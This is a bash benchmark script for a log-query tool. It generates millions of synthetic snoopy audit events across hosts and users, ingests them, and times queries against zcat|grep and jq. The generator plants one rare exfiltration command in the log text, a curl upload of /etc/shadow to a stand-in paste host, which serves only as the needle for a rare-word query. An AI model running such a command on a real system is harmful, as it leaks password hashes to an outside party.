#!/bin/bash
# bench_query.sh - query on a fleet-sized store (issue 13; written with
# [sink.file] compression = gzip, so that zcat is the baseline), side by side with
# `zcat | grep -F` and `zcat | jq 'select(...)'` for the same question, in
# one run: a rare user, a common user, a rare command word, decision=deny,
# one host over one hour, a --grep regex, a --count-by.  Prints each time,
# the hits (the same for all three), and the ratio to zcat|grep.  Targets
# (a benchmark, not a test): needle queries >= 50x faster than zcat|grep, a
# common user >= 5x, a full --grep scan >= 3x, none slower than zcat|grep.
# TG_BENCH_DIR=DIR TG_BENCH_KEEP=1 keeps the store for the next run;
# TG_BENCH_NO_JQ=1 leaves the (slow) jq column out.
#
# The store: 3,000,000 snoopy events (by default; $1), 300 hosts, ~1000
# users, 7 days, ~20 segments, written by `ingest -c` through the file sink
# (fsync = interval).  Users work in sessions of a few dozen commands on one
# of their usual hosts during their 8-hour shift, the busiest (ops01) about
# 3% of the sessions, most users a handful; staff may log in and sudo
# everywhere, ten contractors may not (their sessions are the denies); one
# rare user; a few commands carry a rare word.  Not part of `make check` (`make bench-query`).
set -eu
top=$(cd "$(dirname "$0")/../.." && pwd)
tgbin=${TG_BIN:-$top/_build/trailguard}
n=${1:-3000000}
work=${TG_BENCH_DIR:-$(mktemp -d /tmp/tg-bench-query.XXXXXX)}
[ -n "${TG_BENCH_KEEP:-}" ] || trap 'rm -rf "$work"' EXIT
cd "$work"

if [ ! -f store/chain.head ]; then
    # the policy: group staff may log in everywhere; the contractors are not in it
    awk 'BEGIN {
        for (i = 1; i <= 1000; i++) {
            u = i <= 10 ? sprintf("c%03d", i) : i == 11 ? "ops01" : i == 12 ? "rareuser" : sprintf("u%04d", i)
            printf "dn: uid=%s,cn=users,cn=accounts,dc=example,dc=com\nobjectClass: posixaccount\nuid: %s\nuidNumber: %d\n", u, u, 2000 + i
            if (i > 10) printf "memberOf: cn=staff,cn=groups,cn=accounts,dc=example,dc=com\n"
            printf "\n"
        }
        printf "dn: ipaUniqueID=1,cn=hbac,dc=example,dc=com\nobjectClass: ipaassociation\nobjectClass: ipaHBACRule\ncn: staff_login\naccessRuleType: allow\nipaEnabledFlag: TRUE\nmemberUser: cn=staff,cn=groups,cn=accounts,dc=example,dc=com\nhostCategory: all\nmemberService: cn=sshd,cn=hbacservices,cn=hbac,dc=example,dc=com\nmemberService: cn=sudo,cn=hbacservices,cn=hbac,dc=example,dc=com\n"
    }' >policy.ldif
    mkdir -p snap && mv policy.ldif snap/
    # ... and may run anything with sudo (%staff ALL=(ALL) ALL)
    echo '{"User_Specs": [{"User_List": [{"usergroup": "staff"}], "Host_List": [{"hostname": "ALL"}],
      "Cmnd_Specs": [{"runasusers": [{"username": "ALL"}], "Commands": [{"command": "ALL"}]}]}]}' >snap/sudoers.json
    t0=$(date +%s)
    awk -v n="$n" 'BEGIN {
        srand(13)
        split("ls -la /srv/app|systemctl status nginx|tail -n 50 /var/log/syslog|ps aux|df -h|vim /etc/nginx/nginx.conf|git -C /srv/app pull|journalctl -u app --since today|cat /etc/os-release|docker ps|kubectl get pods -n prod|grep -r ERROR /var/log/app|cp /tmp/build.tgz /srv/releases/|tar xzf /srv/releases/build.tgz|python3 manage.py migrate|mysql -e show processlist|crontab -l|ssh db07 uptime|rsync -a /srv/app/ backup:/srv/app/|openssl x509 -noout -in /etc/ssl/certs/app.pem", cmds, "|")
        nu = 1000; W = 0
        for (i = 1; i <= nu; i++) {
            u[i] = i <= 10 ? sprintf("c%03d", i) : i == 11 ? "ops01" : i == 12 ? "rareuser" : sprintf("u%04d", i)
            w[i] = i <= 10 ? 0.05 : i == 11 ? 30 : i == 12 ? 0.01 : 1.0 / (1 + (i % 50) / 10.0)
            shift[i] = (i * 7) % 24; W += w[i]
        }
        K = 40; t = 1795996800 # 2026-12-01T00:00:00Z
        step = 7 * 86400 / n
        for (e = 0; e < n; e++) {
            ts = t + e * step
            k = int(rand() * K)
            if (left[k] <= 0) { # a new session: a user on shift, on one of her hosts
                hour = int(ts / 3600) % 24
                do {
                    r = rand() * W
                    for (i = 1; i < nu && r > w[i]; i++) r -= w[i]
                } while ((hour - shift[i] + 24) % 24 >= 8 && rand() < 0.97)
                su[k] = i; sh[k] = (i * 13 + int(rand() * 3)) % 300; left[k] = 10 + int(rand() * 60)
                sid[k] = 10000 + e % 50000
            }
            left[k]--
            i = su[k]; us = u[i]
            c = cmds[1 + int(rand() * 20)]
            if (rand() < 0.002) c = c " --token " int(rand() * 1000000)
            if (rand() < 0.000004) c = "curl -s -T /etc/shadow https://paste.example.net/exfil7731"
            if (rand() < 0.001) c = "sudo systemctl restart app"
            if (rand() < 0.003) c = "passwd " us
            s = int(ts); d = 1 + int((s - 1795996800) / 86400); hh = int(s / 3600) % 24; mm = int(s / 60) % 60; ss = s % 60
            printf "Dec %2d %02d:%02d:%02d h%03d.example.com snoopy[%d]: [login:%s ssh:((undefined)) sid:%d tty:/dev/pts/%d ((none)/(none)) uid:%s(%d)/%s(%d) cwd:/home/%s]: %s\n",
                d, hh, mm, ss, sh[k], 20000 + e % 30000, us, sid[k], k % 8, us, 2000 + i, us, 2000 + i, us, c
        }
    }' >feed.log
    t1=$(date +%s)
    printf '[collector]\nworkers = 2\nfsync = interval\n\n[policy]\nsnapshot_dir = %s/snap\n\n[sink.file]\ndir = %s/store\nrotate_bytes = 10M\nrotate_seconds = 0\ncompression = gzip\n' \
        "$work" "$work" >file.ini
    "$tgbin" ingest -q -c file.ini feed.log 2>ingest.err
    t2=$(date +%s)
    echo "generated $n records in $((t1 - t0)) s; ingested in $((t2 - t1)) s"
fi
nseg=$(ls store/seg-*.ndjson.gz | wc -l)
gz=$(cat store/seg-*.ndjson.gz | wc -c)
side=$(cat store/seg-*.chain | wc -c)
raw=$(cat store/seg-*.ndjson.gz | zcat | wc -c)
hosts=$(cat store/seg-*.ndjson.gz | zcat | grep -o '"host":{"name":"[^"]*"' | sort -u | wc -l)
awk -v e="$n" -v s="$nseg" -v g="$gz" -v r="$raw" -v c="$side" -v h="$hosts" 'BEGIN {
    printf "store: %d events, %d hosts, %d segments, %.0f MB gzip (%.0f MB NDJSON, ratio %.1f), sidecars %.1f MB (%.1f%% of the data)\n",
        e, h, s, g / 1e6, r / 1e6, r / g, c / 1e6, 100 * c / g }'
echo "machine: $(nproc) cores, load $(cut -d' ' -f1-3 /proc/loadavg)"

secs() { # secs OUT CMD...: wall seconds of CMD (stdout to OUT)
    local t0 t1
    t0=$(date +%s.%N)
    "${@:2}" >"$1" 2>/dev/null || true
    t1=$(date +%s.%N)
    echo "$t1 - $t0" | bc -l
}
Z() { cat store/seg-*.ndjson.gz | zcat; }
printf '%-34s %9s %9s %9s %8s %8s %10s\n' "question" "query s" "zcat|grep" "zcat|jq" "x grep" "x jq" "hits"
row() { # row NAME GREP-CMD JQ-FILTER QUERY-ARGS...
    local name=$1 g=$2 j=$3
    shift 3
    local tq tg tj hq hg hj
    tq=$(secs q.out "$tgbin" query store --format ndjson "$@")
    tg=$(secs g.out sh -c "cat store/seg-*.ndjson.gz | zcat | $g")
    rm -f j.out
    if [ -n "${TG_BENCH_NO_JQ:-}" ]; then tj=0; else tj=$(secs j.out sh -c "cat store/seg-*.ndjson.gz | zcat | jq -c '$j'"); fi
    hq=$(wc -l <q.out)
    hg=$(wc -l <g.out)
    hj=$(wc -l <j.out 2>/dev/null || echo -)
    printf '%-34s %9.3f %9.2f %9.2f %7.0fx %7.0fx %10s\n' "$name" "$tq" "$tg" "$tj" \
        "$(echo "$tg / $tq" | bc -l)" "$(echo "$tj / $tq" | bc -l)" "$hq/$hg/$hj"
}
mid=$(date -u -d @$((1795996800 + 4 * 86400 + 13 * 3600)) +%Y-%m-%dT%H:00:00Z)
end=$(date -u -d @$((1795996800 + 4 * 86400 + 14 * 3600)) +%Y-%m-%dT%H:00:00Z)
hour=${mid:0:13}
busyhost=$(Z | head -200000 | grep -o '"host":{"name":"[^"]*"' | sort | uniq -c | sort -rn | head -1 | sed 's/.*"name":"\([^"]*\)"/\1/')
row "rare user (rareuser)" "grep -F '\"name\":\"rareuser\"'" 'select(.user.name == "rareuser")' --user rareuser
row "common user (ops01)" "grep -F '\"name\":\"ops01\"'" 'select(.user.name == "ops01")' --user ops01
row "rare command word (exfil7731)" "grep -F exfil7731" 'select(.process.command_line | test("\\bexfil7731\\b"))' --word exfil7731
row "decision=deny" "grep -F '\"decision\":\"deny\"'" 'select(.trailguard.policy.decision == "deny")' --decision deny
row "one host ($busyhost), one hour" "grep -F '\"@timestamp\":\"$hour:' | grep -F '\"host\":{\"name\":\"$busyhost\"'" \
    "select(.host.name == \"$busyhost\" and (.[\"@timestamp\"] | startswith(\"$hour:\")))" \
    --host "$busyhost" --since "$mid" --until "$end"
row "--grep 'passw(or)?d [a-z]'" "grep -E '\"command_line\":\"[^\"]*passw(or)?d [a-z]'" \
    'select(.process.command_line // "" | test("passw(or)?d [a-z]"))' --grep 'passw(or)?d [a-z]'
tq=$(secs q.out "$tgbin" query store --count-by user,host --format ndjson)
tgr=$(secs g.out sh -c "cat store/seg-*.ndjson.gz | zcat | grep -c '\"user\":'")
rm -f j.out
if [ -n "${TG_BENCH_NO_JQ:-}" ]; then tj=0; else
    tj=$(secs j.out sh -c "cat store/seg-*.ndjson.gz | zcat | jq -r '[.user.name, .host.name] | @tsv' | sort | uniq -c")
fi
printf '%-34s %9.3f %9.2f %9.2f %7.0fx %7.0fx %10s\n' "--count-by user,host" "$tq" "$tgr" "$tj" \
    "$(echo "$tgr / $tq" | bc -l)" "$(echo "$tj / $tq" | bc -l)" "$(wc -l <q.out)/-/$(wc -l <j.out 2>/dev/null || echo -)"
echo "(hits: query/grep/jq lines; --count-by: groups, and zcat|grep is one full pass with grep -c;"
echo " jq for --count-by is jq | sort | uniq -c)"
"$tgbin" query store --user rareuser --stats 2>&1 >/dev/null | sed 's/^/rare user: /'
"$tgbin" query store --user ops01 --stats 2>&1 >/dev/null | sed 's/^/common user: /'
